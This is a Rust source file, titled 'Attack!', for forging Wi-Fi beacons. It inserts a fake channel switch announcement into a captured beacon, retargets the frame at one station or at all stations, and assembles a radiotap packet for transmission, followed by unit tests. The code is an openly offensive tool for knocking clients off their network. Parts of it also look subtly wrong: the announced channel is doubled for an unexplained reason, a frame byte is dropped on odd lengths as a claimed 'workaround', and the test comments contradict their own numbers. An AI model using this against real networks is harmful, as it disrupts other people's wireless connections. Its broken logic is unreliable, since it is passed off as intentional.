// Attack! //

use anyhow::Result;

use libbeacon::frame::components::{
    ChannelSwitchAnnouncement, ChannelSwitchMode, InformationElement, MacAddress,
};
use libbeacon::frame::Beacon;
use libbeacon::radiotap::{RadiotapHeader, TxHeaderTemplate};

/// Element id of the DS parameter set, which carries the AP's current channel.
pub const ELEMENT_DS_PARAMETER_SET: u8 = 3;
/// Element id of the channel switch announcement we inject.
pub const ELEMENT_CHANNEL_SWITCH: u8 = 37;

/// Beacon intervals until the announced switch.
const SWITCH_COUNT: u8 = 3;

/// Insert a channel switch announcement into the beacon's element chain.
///
/// A single pass over the chain tracks two values: the channel taken from
/// the DS parameter set, doubled (the announced channel follows the
/// receiving stack's frequency-domain convention), and the first index
/// where the ids step past the announcement's own id. Inserting there keeps
/// the chain's ascending order; when no such boundary exists the
/// announcement is appended. A beacon without a DS parameter set announces
/// channel 0 — callers that care must verify the source channel beforehand.
pub fn insert_csa_tag(beacon: &mut Beacon) {
    let mut channel: u8 = 0;
    let mut insert_index = None;

    for (index, element) in beacon.elements.iter().enumerate() {
        if element.id == ELEMENT_DS_PARAMETER_SET && element.length == 1 {
            if let Some(&value) = element.data.first() {
                channel = value.wrapping_mul(2);
            }
        }
        if let Some(next) = beacon.elements.elements.get(index + 1) {
            if element.id <= ELEMENT_CHANNEL_SWITCH && next.id > ELEMENT_CHANNEL_SWITCH {
                insert_index = Some(index + 1);
                break;
            }
        }
    }
    let insert_index = insert_index.unwrap_or(beacon.elements.len());

    let announcement = ChannelSwitchAnnouncement {
        mode: ChannelSwitchMode::Restrict,
        new_channel: channel,
        count: SWITCH_COUNT,
    };
    beacon.elements.insert(
        insert_index,
        InformationElement::new(ELEMENT_CHANNEL_SWITCH, announcement.encode()),
    );
}

/// Point the beacon at the attack target: the station address for a unicast
/// send, the broadcast address otherwise.
pub fn retarget(beacon: &mut Beacon, station: Option<MacAddress>) {
    beacon
        .header
        .set_dest(station.unwrap_or_else(MacAddress::broadcast));
}

/// Assemble the transmit buffer: the fixed transmit radiotap header followed
/// by the mutated beacon.
///
/// When the combined length comes out odd, the last beacon byte is dropped
/// first. The receiving stack misparses odd-length transmissions; this is a
/// documented workaround, not a truncation bug.
pub fn build_tx_packet(rx_radiotap: &RadiotapHeader, beacon: &Beacon) -> Result<Vec<u8>> {
    let header = TxHeaderTemplate::default().build(
        rx_radiotap.data_rate.unwrap_or_default(),
        rx_radiotap.channel_freq.unwrap_or_default(),
        rx_radiotap.channel_flags.unwrap_or_default(),
    )?;

    let mut frame = beacon.encode()?;
    if (header.len() + frame.len()) % 2 != 0 {
        frame.pop();
    }

    let mut packet = header;
    packet.extend(frame);
    Ok(packet)
}

#[cfg(test)]
mod test {
    use super::*;
    use libbeacon::frame::components::{
        ElementChain, FixedParameters, FrameControl, ManagementHeader, SequenceControl,
    };
    use libbeacon::{Addresses, FrameSubType, FrameType};

    fn beacon_with_elements(ids: &[u8]) -> Beacon {
        let elements = ids
            .iter()
            .map(|&id| {
                if id == ELEMENT_DS_PARAMETER_SET {
                    InformationElement::new(id, vec![6])
                } else {
                    InformationElement::new(id, vec![0xAB])
                }
            })
            .collect();

        Beacon {
            header: ManagementHeader {
                frame_control: FrameControl {
                    protocol_version: 0,
                    frame_type: FrameType::Management,
                    frame_subtype: FrameSubType::Beacon,
                    flags: 0,
                },
                duration: [0, 0],
                address_1: MacAddress::broadcast(),
                address_2: MacAddress([0x02, 0x11, 0x22, 0x33, 0x44, 0x55]),
                address_3: MacAddress([0x02, 0x11, 0x22, 0x33, 0x44, 0x55]),
                sequence_control: SequenceControl {
                    fragment_number: 0,
                    sequence_number: 42,
                },
            },
            fixed: FixedParameters {
                timestamp: 0,
                beacon_interval: 100,
                capability_info: 0x0431,
            },
            elements: ElementChain { elements },
        }
    }

    #[test]
    fn test_insertion_at_id_boundary() {
        let mut beacon = beacon_with_elements(&[1, 3, 50, 51]);
        insert_csa_tag(&mut beacon);

        let ids: Vec<u8> = beacon.elements.iter().map(|element| element.id).collect();
        assert_eq!(ids, vec![1, 3, 37, 50, 51]);

        let announcement = beacon.elements.get(37).unwrap();
        assert_eq!(announcement.length, 3);
        // switch mode 1, channel 6 doubled to 12, count 3
        assert_eq!(announcement.data, vec![1, 12, 3]);
    }

    #[test]
    fn test_insertion_appends_without_boundary() {
        let mut beacon = beacon_with_elements(&[1, 3]);
        insert_csa_tag(&mut beacon);

        let ids: Vec<u8> = beacon.elements.iter().map(|element| element.id).collect();
        assert_eq!(ids, vec![1, 3, 37]);
    }

    #[test]
    fn test_missing_channel_announces_zero() {
        let mut beacon = beacon_with_elements(&[1, 50]);
        insert_csa_tag(&mut beacon);

        let announcement = beacon.elements.get(37).unwrap();
        assert_eq!(announcement.data, vec![1, 0, 3]);
    }

    #[test]
    fn test_retarget() {
        let station = MacAddress([0x66, 0x77, 0x88, 0x99, 0xAA, 0xBB]);

        let mut beacon = beacon_with_elements(&[3]);
        retarget(&mut beacon, Some(station));
        assert_eq!(beacon.dest(), &station);

        retarget(&mut beacon, None);
        assert!(beacon.dest().is_broadcast());
    }

    #[test]
    fn test_tx_packet_parity_correction() {
        // 18-byte header + 36-byte body + one 3-byte element: odd total.
        let mut beacon = beacon_with_elements(&[3]);
        insert_csa_tag(&mut beacon);
        // Header + 36 + 3 + 5 = 62: even, nothing dropped.
        let rx = RadiotapHeader::default();
        let packet = build_tx_packet(&rx, &beacon).unwrap();
        assert_eq!(packet.len() % 2, 0);
        assert_eq!(packet.len(), 62);

        // Drop down to an odd combined length by removing the announcement.
        let beacon = beacon_with_elements(&[3]);
        let packet = build_tx_packet(&rx, &beacon).unwrap();
        assert_eq!(packet.len() % 2, 0);
        // 18 + 39 is odd, so the final frame byte went away.
        assert_eq!(packet.len(), 56);
    }

    #[test]
    fn test_tx_packet_layout() {
        let mut rx = RadiotapHeader::default();
        rx.data_rate = Some(0x10);
        rx.channel_freq = Some(2437);
        rx.channel_flags = Some(0x00a0);

        let beacon = beacon_with_elements(&[3, 50]);
        let packet = build_tx_packet(&rx, &beacon).unwrap();

        // Transmit header first, with the captured rate and channel.
        assert_eq!(&packet[..4], &[0x00, 0x00, 0x12, 0x00]);
        assert_eq!(packet[8], 0x10);
        assert_eq!(&packet[9..11], &[0x85, 0x09]);
        // The beacon frame control follows the 18 header bytes.
        assert_eq!(packet[18], 0x80);
    }
}
